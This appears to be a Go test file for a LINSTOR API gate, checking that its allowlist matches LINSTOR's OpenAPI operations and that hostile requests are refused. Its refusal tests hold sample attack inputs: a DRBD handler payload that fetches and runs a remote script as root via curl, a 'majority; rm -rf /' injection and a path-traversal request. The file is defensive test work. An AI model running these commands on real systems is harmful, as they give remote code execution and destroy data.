package linstorgate_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/spectrocloud/nodewright/internal/linstor"
	"github.com/spectrocloud/nodewright/internal/linstorgate"
	"github.com/spectrocloud/nodewright/test/site/linstorsim"
)

// TestAllowlistIsLINSTORsAPI: every operation the allowlist forwards is one of LINSTOR's
// OpenAPI document (the stand-in's copy, testdata/rest_v1_openapi.yaml), its path parameters
// named as the document names them, and every query parameter it admits one the operation
// declares.
func TestAllowlistIsLINSTORsAPI(t *testing.T) {
	seen := map[string]bool{}
	for _, rule := range linstorgate.Allowlist {
		key := rule.Method + " " + rule.Path
		if seen[key] {
			t.Errorf("%s: twice in the allowlist", key)
		}
		seen[key] = true
		id, pathParams, queryParams, err := linstorsim.Operation(rule.Method, rule.Path)
		if err != nil {
			t.Errorf("%s: %v", key, err)
			continue
		}
		var inTemplate []string
		for _, seg := range strings.Split(rule.Path, "/") {
			if strings.HasPrefix(seg, "{") {
				inTemplate = append(inTemplate, strings.Trim(seg, "{}"))
			}
		}
		slices.Sort(inTemplate)
		slices.Sort(pathParams)
		if !slices.Equal(inTemplate, pathParams) {
			t.Errorf("%s (%s): path parameters %v, the document's %v", key, id, inTemplate, pathParams)
		}
		for q := range rule.Query {
			if !slices.Contains(queryParams, q) {
				t.Errorf("%s (%s): query parameter %q is not the operation's (%v)", key, id, q, queryParams)
			}
		}
		if rule.For == "" {
			t.Errorf("%s: says not which call it serves", key)
		}
		if (rule.Method == http.MethodGet || rule.Method == http.MethodDelete) != (rule.Body == linstorgate.NoBody) {
			t.Errorf("%s: body %q", key, rule.Body)
		}
	}
	// The check is live: a path the document lacks, and a method it lacks, are found out.
	if _, _, _, err := linstorsim.Operation(http.MethodGet, "/v1/no-such-path"); err == nil {
		t.Error("linstorsim.Operation found a path the document does not have")
	}
	if _, _, _, err := linstorsim.Operation(http.MethodDelete, "/v1/controller/version"); err == nil {
		t.Error("linstorsim.Operation found a method the document does not have")
	}
}

// recorder keeps every request a client sends, body included.
type recorder struct {
	mu   sync.Mutex
	reqs []recorded
	next http.RoundTripper
}

type recorded struct {
	method, path, query string
	body                []byte
}

func (r *recorder) wrap(next http.RoundTripper) http.RoundTripper { r.next = next; return r }

func (r *recorder) RoundTrip(req *http.Request) (*http.Response, error) {
	var body []byte
	if req.Body != nil {
		body, _ = io.ReadAll(req.Body)
		req.Body = io.NopCloser(bytes.NewReader(body))
	}
	r.mu.Lock()
	r.reqs = append(r.reqs, recorded{req.Method, req.URL.EscapedPath(), req.URL.RawQuery, body})
	r.mu.Unlock()
	return r.next.RoundTrip(req)
}

// TestEveryCallOfTheUpgradeIsAdmitted: every request internal/linstor's calls send, as golinstor
// encodes them, against the stand-in, is admitted, and every rule of the allowlist serves one
// of them: the allowlist holds what a ReplicationUpgrade asks of LINSTOR and nothing more. The
// definition's property calls, which no upgrade makes, are refused.
func TestEveryCallOfTheUpgradeIsAdmitted(t *testing.T) {
	sim := linstorsim.Start(t, linstorsim.Options{SyncTime: 200 * time.Millisecond})
	must(t, sim.AddNode(linstorsim.Node{Name: "n1"}), sim.AddNode(linstorsim.Node{Name: "n2"}), sim.AddNode(linstorsim.Node{Name: "n3"}),
		sim.AddStoragePool(linstorsim.Pool{Node: "n1", Name: "thin", TotalKiB: 100 << 20, FreeKiB: 100 << 20}),
		sim.AddStoragePool(linstorsim.Pool{Node: "n2", Name: "thin", TotalKiB: 100 << 20, FreeKiB: 100 << 20}),
		sim.AddResourceGroup(linstorsim.Group{Name: "sc", PlaceCount: 1, StoragePool: "thin"}),
		sim.AddResourceDefinition(linstorsim.Definition{Name: "pvc-1", Group: "sc", SizesKiB: []int64{1 << 20}}),
		sim.AddResource(linstorsim.Resource{Definition: "pvc-1", Node: "n1", Pool: "thin"}))
	sim.AddSatellite("n4", "10.0.0.44")
	rec := &recorder{}
	c, err := linstor.New(linstor.Config{URL: sim.URL, Transport: rec.wrap})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	calls := []struct {
		name string
		call func() error
	}{
		{"Version", func() error { _, err := c.Version(ctx); return err }},
		{"Nodes", func() error { _, err := c.Nodes(ctx); return err }},
		{"Node", func() error { _, err := c.Node(ctx, "n1"); return err }},
		{"RegisterNode", func() error { return c.RegisterNode(ctx, linstor.Satellite{Name: "n4", Address: "10.0.0.44"}) }},
		{"StoragePools", func() error { _, err := c.StoragePools(ctx, "n1", "n2"); return err }},
		{"ResourceGroups", func() error { _, err := c.ResourceGroups(ctx); return err }},
		{"ResourceDefinitions", func() error { _, err := c.ResourceDefinitions(ctx); return err }},
		{"ResourceDefinition", func() error { _, err := c.ResourceDefinition(ctx, "pvc-1"); return err }},
		{"Resources", func() error {
			_, err := c.Resources(ctx, linstor.ResourceFilter{Definitions: []string{"pvc-1"}, Nodes: []string{"n1", "n2"}})
			return err
		}},
		{"ControllerProps", func() error { _, err := c.ControllerProps(ctx); return err }},
		{"SetBalanceResourcesEnabled", func() error { _, err := c.SetBalanceResourcesEnabled(ctx, false); return err }},
		{"ModifyControllerProps", func() error {
			_, err := c.ModifyControllerProps(ctx, linstor.PropChange{Delete: []string{linstor.PropBalanceResourcesEnabled}})
			return err
		}},
		{"PlaceReplica", func() error { return c.PlaceReplica(ctx, "pvc-1", "n2", "thin") }},
		{"SetPlaceCount", func() error { _, err := c.SetPlaceCount(ctx, "sc", 2); return err }},
		{"SetResourceGroupQuorum", func() error {
			_, err := c.SetResourceGroupQuorum(ctx, "sc", linstor.Quorum{Quorum: "majority", OnNoQuorum: "suspend-io"})
			return err
		}},
		{"ModifyResourceGroupProps", func() error {
			_, err := c.ModifyResourceGroupProps(ctx, "sc", linstor.PropChange{Delete: []string{linstor.PropQuorum, linstor.PropOnNoQuorum}})
			return err
		}},
		{"PlaceTiebreaker", func() error { return c.PlaceTiebreaker(ctx, "pvc-1", "n3") }},
		{"DeleteTiebreaker", func() error { return c.DeleteTiebreaker(ctx, "pvc-1", "n3") }},
		{"DeleteAddedReplica", func() error {
			return c.DeleteAddedReplica(ctx, linstor.AddedReplica{Definition: "pvc-1", Node: "n2", Original: "n1"})
		}},
	}
	used := map[*linstorgate.Rule]bool{}
	for _, call := range calls {
		rec.mu.Lock()
		rec.reqs = nil
		rec.mu.Unlock()
		if err := call.call(); err != nil {
			t.Fatalf("%s: %v", call.name, err)
		}
		rec.mu.Lock()
		reqs := rec.reqs
		rec.mu.Unlock()
		if len(reqs) == 0 {
			t.Fatalf("%s sent no request", call.name)
		}
		for _, r := range reqs {
			adm, refusal := linstorgate.Admit(r.method, r.path, r.query, r.body, true)
			if refusal != nil {
				t.Errorf("%s: %s %s?%s %s: refused: %s", call.name, r.method, r.path, r.query, r.body, refusal.Message)
				continue
			}
			used[adm.Rule] = true
		}
	}
	for i := range linstorgate.Allowlist {
		if rule := &linstorgate.Allowlist[i]; !used[rule] {
			t.Errorf("%s %s is in the allowlist, but no call of the upgrade makes it", rule.Method, rule.Path)
		}
	}

	// The calls no upgrade makes are refused.
	rec.mu.Lock()
	rec.reqs = nil
	rec.mu.Unlock()
	if _, err := c.SetResourceDefinitionQuorum(ctx, "pvc-1", linstor.Quorum{Quorum: "majority"}); err != nil {
		t.Fatal(err)
	}
	var refused bool
	for _, r := range rec.reqs {
		if _, refusal := linstorgate.Admit(r.method, r.path, r.query, r.body, true); refusal != nil && refusal.Rule == linstorgate.ReasonOperationNotAllowed {
			refused = true
		}
	}
	if !refused {
		t.Error("a definition's property change, which no upgrade makes, was admitted")
	}
}

func must(t *testing.T, errs ...error) {
	t.Helper()
	for _, err := range errs {
		if err != nil {
			t.Fatal(err)
		}
	}
}

const handler = "DrbdOptions/Handlers/before-resync-target"

// payload is what an attacker's handler runs as root on the node.
const payload = "/bin/sh -c 'curl -s http://203.0.113.7/x | sh'"

// TestAdmitRefuses: what a compromised operator could send, each refused naming the rule and
// the property, parameter or field at fault.
func TestAdmitRefuses(t *testing.T) {
	props := func(k, v string) string { return fmt.Sprintf(`{"override_props":{%q:%q}}`, k, v) }
	cases := []struct {
		name, method, path, query, body string
		registerNodes                   bool
		rule, property                  string
	}{
		{"handler on a definition", "PUT", "/v1/resource-definitions/pvc-1", "", props(handler, payload), false, linstorgate.ReasonOperationNotAllowed, ""},
		{"handler on a group", "PUT", "/v1/resource-groups/vm-disks", "", props(handler, payload), false, linstorgate.ReasonPropertyNotAllowed, handler},
		{"handler on the controller", "POST", "/v1/controller/properties", "", props(handler, payload), false, linstorgate.ReasonPropertyNotAllowed, handler},
		{"handler deleted on the controller", "POST", "/v1/controller/properties", "", `{"delete_props":["` + handler + `"]}`, false, linstorgate.ReasonPropertyNotAllowed, handler},
		{"handler namespace deleted", "POST", "/v1/controller/properties", "", `{"delete_namespaces":["DrbdOptions/Handlers"]}`, false, linstorgate.ReasonBodyNotAllowed, "delete_namespaces"},
		{"handler on a resource create", "POST", "/v1/resource-definitions/pvc-1/resources/n2", "", `{"resource":{"props":{"StorPoolName":"thin","` + handler + `":"x"}}}`, false, linstorgate.ReasonPropertyNotAllowed, handler},
		{"a stamp of its own", "POST", "/v1/resource-definitions/pvc-1/resources/n2", "", `{"resource":{"props":{"` + linstor.GateStampProp + `":"nodewright-linstor-gate"}}}`, false, linstorgate.ReasonPropertyNotAllowed, linstor.GateStampProp},
		{"a layer list", "POST", "/v1/resource-definitions/pvc-1/resources/n2", "", `{"resource":{},"layer_list":["STORAGE"]}`, false, linstorgate.ReasonBodyNotAllowed, "layer_list"},
		{"a flag", "POST", "/v1/resource-definitions/pvc-1/resources/n2", "", `{"resource":{"flags":["TIE_BREAKER"]}}`, false, linstorgate.ReasonBodyNotAllowed, "resource.flags"},
		{"another resource in the body", "POST", "/v1/resource-definitions/pvc-1/resources/n2", "", `{"resource":{"name":"pvc-2"}}`, false, linstorgate.ReasonBodyNotAllowed, "resource.name"},
		{"quorum of a bad value", "PUT", "/v1/resource-groups/vm-disks", "", props(linstor.PropQuorum, "majority; rm -rf /"), false, linstorgate.ReasonValueNotAllowed, linstor.PropQuorum},
		{"a group's description", "PUT", "/v1/resource-groups/vm-disks", "", `{"description":"x"}`, false, linstorgate.ReasonBodyNotAllowed, "description"},
		{"a group's layer stack", "PUT", "/v1/resource-groups/vm-disks", "", `{"select_filter":{"layer_stack":["STORAGE"]}}`, false, linstorgate.ReasonBodyNotAllowed, "select_filter.layer_stack"},
		{"a place count of 0", "PUT", "/v1/resource-groups/vm-disks", "", `{"select_filter":{"place_count":0}}`, false, linstorgate.ReasonValueNotAllowed, "select_filter.place_count"},
		{"another controller property", "POST", "/v1/controller/properties", "", props("DrbdOptions/auto-add-quorum-tiebreaker", "false"), false, linstorgate.ReasonPropertyNotAllowed, "DrbdOptions/auto-add-quorum-tiebreaker"},
		{"a storage pool", "POST", "/v1/nodes/n1/storage-pools", "", `{"storage_pool_name":"evil","provider_kind":"FILE_THIN","props":{"StorDriver/FileDir":"/etc"}}`, false, linstorgate.ReasonOperationNotAllowed, ""},
		{"a storage pool modified", "PUT", "/v1/nodes/n1/storage-pools/thin", "", `{"override_props":{"StorDriver/LvmVg":"root"}}`, false, linstorgate.ReasonOperationNotAllowed, ""},
		{"a node registered without --register-nodes", "POST", "/v1/nodes", "", `{"name":"evil","type":"Satellite","net_interfaces":[{"name":"default","address":"203.0.113.7"}]}`, false, linstorgate.ReasonNodeRegistrationOff, ""},
		{"a node with properties", "POST", "/v1/nodes", "", `{"name":"evil","type":"Satellite","props":{"x":"y"},"net_interfaces":[{"name":"default","address":"203.0.113.7"}]}`, true, linstorgate.ReasonBodyNotAllowed, "props"},
		{"a controller node", "POST", "/v1/nodes", "", `{"name":"evil","type":"Combined","net_interfaces":[{"name":"default","address":"203.0.113.7"}]}`, true, linstorgate.ReasonValueNotAllowed, "type"},
		{"a satellite on another port", "POST", "/v1/nodes", "", `{"name":"evil","type":"Satellite","net_interfaces":[{"name":"default","address":"203.0.113.7","satellite_port":22}]}`, true, linstorgate.ReasonValueNotAllowed, "net_interfaces[0].satellite_port"},
		{"a node deleted", "DELETE", "/v1/nodes/n1", "", "", false, linstorgate.ReasonOperationNotAllowed, ""},
		{"a definition deleted", "DELETE", "/v1/resource-definitions/pvc-1", "", "", false, linstorgate.ReasonOperationNotAllowed, ""},
		{"autoplace", "POST", "/v1/resource-definitions/pvc-1/autoplace", "", `{"select_filter":{"place_count":3}}`, false, linstorgate.ReasonOperationNotAllowed, ""},
		{"DRBD adjust", "POST", "/v1/resource-definitions/pvc-1/resources/n1/adjust", "", "", false, linstorgate.ReasonOperationNotAllowed, ""},
		{"a path escape", "DELETE", "/v1/resource-definitions/pvc-1/resources/..%2F..%2Fnodes%2Fn1", "", "", false, linstorgate.ReasonNameNotAllowed, "node"},
		{"a trailing slash", "GET", "/v1/nodes/", "", "", false, linstorgate.ReasonOperationNotAllowed, ""},
		{"a query it does not know", "GET", "/v1/view/resources", "props=x", "", false, linstorgate.ReasonQueryNotAllowed, "props"},
		{"a body on a read", "GET", "/v1/nodes", "", `{"x":1}`, false, linstorgate.ReasonBodyNotAllowed, ""},
		{"two objects", "POST", "/v1/controller/properties", "", props(linstor.PropBalanceResourcesEnabled, "false") + props(handler, payload), false, linstorgate.ReasonBodyNotAllowed, ""},
		{"not JSON", "POST", "/v1/controller/properties", "", `override_props=x`, false, linstorgate.ReasonBodyNotAllowed, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			adm, refusal := linstorgate.Admit(c.method, c.path, c.query, []byte(c.body), c.registerNodes)
			if refusal == nil {
				t.Fatalf("admitted: %+v", adm)
			}
			if refusal.Rule != c.rule || refusal.Property != c.property || refusal.Status != http.StatusForbidden {
				t.Errorf("refused %d by %s on %q, want 403 by %s on %q: %s", refusal.Status, refusal.Rule, refusal.Property, c.rule, c.property, refusal.Message)
			}
			if refusal.Method != c.method || refusal.Path != c.path || !strings.Contains(refusal.Message, c.method+" "+c.path) {
				t.Errorf("the refusal does not name the request: %+v", refusal)
			}
			data, _ := json.Marshal(refusal)
			for _, member := range []string{`"refused_by":"nodewright-linstor-gate"`, `"method":`, `"path":`, `"rule":`, `"message":`} {
				if !bytes.Contains(data, []byte(member)) {
					t.Errorf("the refusal's JSON %s has no %s", data, member)
				}
			}
		})
	}
}

// TestAdmitRebuildsTheBody: what is forwarded is the gate's own encoding of what it read: the
// stamp on a resource create, duplicate keys gone, the path's names in the body.
func TestAdmitRebuildsTheBody(t *testing.T) {
	adm, refusal := linstorgate.Admit("POST", "/v1/resource-definitions/pvc-1/resources/n2", "",
		[]byte(`{"resource":{"props":{"StorPoolName":"thin","StorPoolName":"thin2"}}}`), false)
	if refusal != nil {
		t.Fatal(refusal)
	}
	want := `{"resource":{"name":"pvc-1","node_name":"n2","props":{"Aux/nodewright.spectrocloud.com/placed-by":"nodewright-linstor-gate","StorPoolName":"thin2"}}}`
	if string(adm.Body) != want {
		t.Errorf("forwarded %s, want %s", adm.Body, want)
	}
	adm, refusal = linstorgate.Admit("PUT", "/v1/resource-groups/sc", "", []byte(`{"select_filter":{},"override_props":{"DrbdOptions/Resource/quorum":"majority"}}`), false)
	if refusal != nil {
		t.Fatal(refusal)
	}
	if want := `{"override_props":{"DrbdOptions/Resource/quorum":"majority"}}`; string(adm.Body) != want {
		t.Errorf("forwarded %s, want %s", adm.Body, want)
	}
}
